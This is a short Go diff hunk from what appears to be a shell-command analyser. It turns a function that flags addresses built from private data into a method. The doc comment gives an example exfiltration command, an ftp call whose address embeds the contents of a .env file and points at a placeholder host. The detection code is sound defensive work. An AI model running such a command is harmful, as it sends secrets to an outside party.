@@ -196,9 +196,9 @@ func asksRegistry(a *act) {
 	}
 }
 
-// tellsAddress is a program whose address itself may be made of something private:
+// tellsAddress notes that an address itself is made of something private:
 // ftp ftp://"$(cat .env)"@HOST.
-func tellsAddress(a *act) {
+func (a *act) tellsAddress() {
 	for i := range a.mixture() {
 		if i >= len(a.Args) || len(a.words()[i].sources) == 0 {
 			continue
